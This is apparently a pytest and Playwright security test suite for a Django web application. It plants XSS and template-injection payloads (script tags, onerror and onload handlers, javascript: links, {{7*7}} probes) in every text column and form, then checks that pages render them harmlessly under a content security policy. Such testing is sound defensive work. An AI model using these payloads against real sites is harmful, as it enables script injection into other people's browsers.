"""Scripts, templates and mark-up in every text, and every page opened in a real browser."""

import re
import subprocess
import sys
from collections import deque
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import pytest
from django.apps import apps
from django.db import models
from playwright.sync_api import Browser, BrowserContext, Error, Page

from mjweb.env import ROOT
from tests.support.factories import PASSWORD
from tests.support.stack import Stack, installation, until

pytestmark = [pytest.mark.proof, pytest.mark.timeout(900), pytest.mark.xdist_group("poisoned")]
PAYLOADS = {
    "mark-up": "\"'><img src=x onerror=pwned=1><script>pwned=1</script>{{7*7}}{% x %}",
    "addresses": "javascript:pwned=1//</title></textarea><svg onload=pwned=1>${7*7}#{7*7}",
    "signs": (
        "\u202e\u2028<a href=javascript:pwned=1 autofocus onfocus=pwned=1>"
        "＜script＞\u0000&#60;b&#62;"
    ).replace("\0", ""),
}
# What people and vendors write, and where it is kept. What is left out of a room is said in
# NOBODY_WRITES.
TEXTS = {
    "activity_webhook": ["name", "host"],
    "activity_delivery": ["answer"],
    "teams_team": ["name", "suspension_reason"],
    "teams_token": ["name"],
    "teams_user": ["name"],
    "projects_project": ["name", "brief"],
    "projects_image": ["title"],
    "projects_original": ["name"],
    "prompts_prompt": ["title"],
    "prompts_version": ["text", "note"],
    "budgets_ledgerentry": ["account", "why"],
    "budgets_price": ["source"],
    "jobs_vendoraccount": ["name"],
    "jobs_job": [
        "reason",
        "vendor_message",
        "vendor_status",
        "prompt_title",
        "prompt_text",
        "image_title",
    ],
    "jobs_output": ["fault"],
    "clips_clip": ["prompt_title", "prompt_text", "image_title"],
    "jobs_chain": ["fault"],
    "jobs_lane": ["last_error"],
    "reviews_decision": ["note"],
}
NOBODY_WRITES = {
    "file", "thumbnail", "poster", "sprite", "colour", "sha256", "image_sha256", "sealed_key",
    "key_hint", "kind",
    "sealed_webhook_secret", "schema_version", "vendor", "model", "variant", "fingerprint",
    "reference", "image_url",
    "base_url", "vendor_url", "vendor_job_id", "unverified_job_id", "verb", "subject_kind", "email",
    "password", "time_zone",
    "body", "topic", "sealed_secret", "sealed_url", "token_hash", "digest", "hint",
}  # fmt: skip
FORMS = [
    "/projects/new/",
    "/prompts/new/",
    "/jobs/accounts/",
    "/money/prices/",
    "/money/budgets/",
    "/team/me/",
    "/jobs/new/",
]
LISTEN = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.violations.push(
    [event.violatedDirective, event.blockedURI, event.sample, event.sourceFile].join(" ")));
"""


def test_every_text_column_is_poisoned_or_left_out_by_name():
    ours = [model for model in apps.get_models() if model.__module__.startswith("apps.")]
    written = {
        (model._meta.db_table, field.column)
        for model in ours
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        if not field.choices and not field.primary_key
    }
    assert {one for one in written if one[1] not in NOBODY_WRITES} == {
        (table, column) for table, columns in TEXTS.items() for column in columns
    }


@pytest.fixture(scope="module")
def poisoned_stack(
    tmp_path_factory: pytest.TempPathFactory, set_up_before: Path
) -> Iterator[Stack]:
    """An installation of its own with one of everything: nobody can use it afterwards."""
    folder = tmp_path_factory.mktemp("poisoned") / "var"
    with installation(folder, database_url="", broker_url="", like=set_up_before) as stack:
        subprocess.run(
            [sys.executable, "-m", "tests.support.furnish"],
            check=True,
            env=stack.environment,
            cwd=ROOT,
        )
        stack.start("web")  # nobody else, or they would write over what is written here
        yield stack


@pytest.fixture(scope="module")
def familiar(browser: Browser, poisoned_stack: Stack) -> Iterator[BrowserContext]:
    """A window in which the owner is signed in."""
    context = browser.new_context(
        base_url=poisoned_stack.url, viewport={"width": 1280, "height": 800}
    )
    context.set_default_timeout(30_000)
    context.add_init_script(LISTEN)
    page = context.new_page()
    page.goto("/accounts/login/")
    page.get_by_label("Email").fill("owner@furnished.example")
    page.get_by_label("Password").first.fill(PASSWORD)
    page.get_by_role("button", name="Sign in", exact=True).click()
    page.wait_for_url("/")
    page.close()
    yield context
    context.close()


@pytest.fixture
def visitor(familiar: BrowserContext) -> Iterator[Page]:
    """The owner at a browser that notices whatever should not happen."""
    page = familiar.new_page()
    happened: list[str] = []
    page.on("dialog", lambda dialog: (happened.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: happened.append(str(error)))
    yield page
    page.close()
    assert happened == []


def assert_nothing_happened(page: Page) -> None:
    facts = until(lambda: facts_of(page), bool, what="the page to have loaded")
    assert facts == ["undefined", []], page.url


def facts_of(page: Page) -> list | None:
    try:
        return page.evaluate("[typeof window.pwned, window.violations]")
    except Error:  # the answer to a form is just taking the page's place
        return None


def poison(poisoned_stack: Stack, payload: str) -> None:
    """Write it wherever anybody could; a number in front keeps names apart."""
    with closing(poisoned_stack.database()) as database:
        for table, columns in TEXTS.items():
            for column in columns:
                database.execute(f"UPDATE {table} SET {column} = id || ' ' || ?", (payload,))
        database.commit()


def every_page(page: Page) -> Iterator[str]:
    """Open one page of each kind, found by following links."""
    waiting, seen = deque(["/"]), set()
    while waiting:
        address = waiting.popleft()
        kind = re.sub(r"[0-9a-f]{8}-[0-9a-f-]{27}|\d+", "…", address.partition("?")[0])
        if kind in seen or re.search(
            r"logout|\.csv|\.json|/picture$|/video|/original$|/lines/export", kind
        ):
            continue
        seen.add(kind)
        page.goto(address)
        yield kind
        found = page.evaluate(
            "[...document.querySelectorAll('a[href]')].map((link) => link.getAttribute('href'))"
        )
        assert not [
            href for href in found if href.strip().lower().startswith(("javascript:", "data:"))
        ]
        waiting.extend(href for href in found if href.startswith("/") and not href.startswith("//"))


def test_whatever_is_written_is_shown_as_it_was_written(visitor: Page, poisoned_stack: Stack):
    poison(poisoned_stack, " ".join(PAYLOADS.values()))
    shown, opened = {kind: set() for kind in PAYLOADS}, []
    for address in every_page(visitor):
        opened.append(address)
        assert_nothing_happened(visitor)
        text = visitor.evaluate("document.body.textContent")
        assert "49" not in re.findall(r"x (\d+)", text)
        for kind, payload in PAYLOADS.items():
            if payload in text:
                shown[kind].add(address)
    assert len(opened) >= 15, opened
    wanted = {"/projects/", "/prompts/", "/team/", "/jobs/accounts/", "/projects/…/", "/clips/…/"}
    assert all(wanted <= addresses for addresses in shown.values()), shown


def test_what_scripts_of_ours_do_with_it_does_no_harm(visitor: Page, poisoned_stack: Stack):
    payload = PAYLOADS["mark-up"]
    poison(poisoned_stack, payload)
    visitor.goto("/gallery/")
    visitor.keyboard.press("j")
    visitor.keyboard.press("Space")
    visitor.keyboard.press("Escape")
    visitor.keyboard.press("Control+k")
    visitor.keyboard.type("<img src=x onerror=pwned=1>")
    visitor.keyboard.press("Escape")
    visitor.evaluate(
        "htmx.ajax('GET', location.href, {target: '#main', select: '#main', swap: 'outerHTML'})"
    )
    assert_nothing_happened(visitor)
    visitor.goto("/gallery/?q=" + "%22%3E%3Cscript%3Epwned=1%3C/script%3E")
    assert_nothing_happened(visitor)


def test_no_string_becomes_a_script(visitor: Page):
    """Should a hole be found one day, the browser itself refuses what it is for."""
    visitor.goto("/")
    tried = visitor.evaluate("""() => {
      const attempts = {
        text: () => { document.createElement("script").text = "pwned=1"; },
        address: () => { document.createElement("script").src = "https://evil.example/x.js"; },
        handler: () => {
          const one = document.createElement("div");
          one.setAttribute("onclick", "pwned=1");
          document.body.append(one);
          one.click();
        },
      };
      const refused = {};
      for (const [name, attempt] of Object.entries(attempts)) {
        try { attempt(); refused[name] = false; } catch { refused[name] = true; }
      }
      return [refused.text, refused.address, typeof window.pwned];
    }""")
    assert tried == [True, True, "undefined"]


@pytest.mark.parametrize("address", FORMS)
def test_every_form_takes_it_and_gives_it_back_harmless(
    visitor: Page, poisoned_stack: Stack, address: str
):
    visitor.goto(address)
    for number in range(visitor.locator("main form[method=post]:not([data-confirm])").count()):
        visitor.goto(address)
        form = visitor.locator("main form[method=post]:not([data-confirm])").nth(number)
        for field in form.locator(
            "input:not([type]), input[type=text], input[type=password], textarea"
        ).all():
            if field.is_editable() and field.is_visible():
                field.fill(PAYLOADS["mark-up"])
        with visitor.expect_response(lambda answer: answer.request.method == "POST") as answered:
            form.evaluate("(form) => { form.noValidate = true; form.requestSubmit(); }")
        assert answered.value.status in {200, 204, 302, 422}
        assert_nothing_happened(visitor)
